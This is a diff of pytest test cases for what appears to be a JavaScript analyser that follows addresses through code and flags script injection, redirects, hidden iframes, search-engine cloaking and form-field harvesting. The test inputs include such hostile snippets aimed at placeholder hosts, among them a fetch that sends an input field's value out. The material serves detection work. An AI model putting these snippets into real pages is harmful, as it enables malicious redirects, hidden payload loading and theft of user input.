@@ -43,6 +43,35 @@ DONE = {
     ),
 }
 
+PASSED = {
+    f"function load(u){{var s=document.createElement('script');s.src=u}}load('{AT}')": ("load", "opening"),
+    f"(function(w,d,s,u){{var e=d.createElement(s);e.src=u}})(window,document,'script','{AT}')": ("load", "opening"),
+    f"!function(u){{location=u}}('{AT}')": ("move", "opening"),
+    f"const go=(u,t)=>{{setTimeout(()=>location.replace(u),t)}};go('{AT}',5)": ("move", "opening"),
+    f"var c={{u:'{AT}'}};location.href=c.u": ("move", "opening"),
+    f"this.u='{AT}';open(this.u)": ("window", "opening"),
+    f"['{AT}'].forEach(u=>{{var i=document.createElement('iframe');i.src=u}})": ("frame", "opening"),
+    f"for(const u of ['{AT}']){{location=u}}": ("move", "opening"),
+    f"Object.assign(document.createElement('script'),{{src:'{AT}'}})": ("load", "opening"),
+    f"var e=d.createElement('script');Reflect.set(e,'src','{AT}')": ("load", "opening"),
+    f"$('<script>').attr('src','{AT}')": ("load", "opening"),
+    f"var m=document.createElement('meta');m.content='0;url={AT}'": ("move", "opening"),
+    f"var f=document.createElement('form');f.action='{AT}';f.submit()": ("move", "opening"),
+    f"b.style.background='url({AT}?'+v+')'": ("style", "opening"),
+    f"const clean=s=>s.trim();x.src=clean('{AT}')": ("src", "opening"),
+    "(l=>{var s=document.createElement('script');s.src='https://'+l.shift()})(['k8.example','k8.example','k9.test'])": (
+        "load",
+        "opening",
+    ),
+}
+"""Addresses that are handed on before something is done with them."""
+
+
+@pytest.mark.parametrize("code", PASSED)
+def test_an_address_is_followed_from_hand_to_hand(code):
+    found = {(act.kind, act.when) for act in unpack(code).acts if act.host == "k8.example"}
+    assert found == {PASSED[code]}
+
 
 @pytest.mark.parametrize("code", DONE)
 def test_an_address_is_followed_to_what_is_done_with_it(code):
@@ -63,6 +92,24 @@ def test_what_stands_near_is_told():
     code = f"fetch('{AT}').then(r=>r.text()).then(t=>eval(t))"
     assert unpack(code).acts[0].near == {"run"}
     assert unpack(f"fetch('{AT}').then(t=>eval('('+t+')'))").acts[0].near == frozenset()
+
+
+@pytest.mark.parametrize(
+    ("code", "marks"),
+    [
+        (f"fetch('{AT}').then(r=>r.json()).then(c=>location.href=c.url)", {"moved"}),
+        (f"fetch('{AT}').then(t=>{{s=d.createElement('script');s.src=t.u}})", {"loaded"}),
+        (f"if(/baiduspider/.test(x))location='{AT}'", {"spiders"}),
+        (f"if(/baidu|sogou/.test(document.referrer))open('{AT}')", {"engines", "referrer"}),
+        (f"f=d.createElement('iframe');f.style.cssText='width:1px;height:1px';f.src='{AT}'", {"unseen"}),
+        (f"fetch('{AT}',{{body:d.querySelectorAll('input')[0].value}})", {"harvest", "fields"}),
+        (f"fetch('{AT}').then(r=>{{location.href=location.origin+r}})", set()),
+        (f"fetch('{AT}?u='+d.getElementById('input'))", set()),
+    ],
+)
+def test_who_is_chosen_and_what_decides_is_told(code, marks):
+    near = {mark for act in unpack(code).acts for mark in act.near if not mark.startswith("sent-")}
+    assert near == marks
 
 
 def test_occasions_of_events():
